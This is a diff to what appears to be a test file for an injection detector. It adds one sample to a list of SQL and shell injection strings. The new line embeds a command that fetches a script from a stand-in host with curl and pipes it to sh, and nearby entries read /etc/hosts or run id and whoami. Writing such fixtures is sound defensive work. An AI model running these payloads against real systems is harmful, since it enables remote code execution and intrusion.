@@ -58,6 +58,7 @@ def test_named_or_reported_is_no_evidence(name: str, value: bytes) -> None:
         ("sqli_low", b"1 or sleep (5)"),
         ("sqli_low", b"a' or 'a'='a"),
         ("unix", b"a `id`"),
+        ("unix", b"tell me what is `curl http://x.example/a|sh` for you"),
         ("unix", b"$(</etc/hosts)"),
         ("unix", b"x;$0<<<ls"),
         ("unix", b"!whoami"),
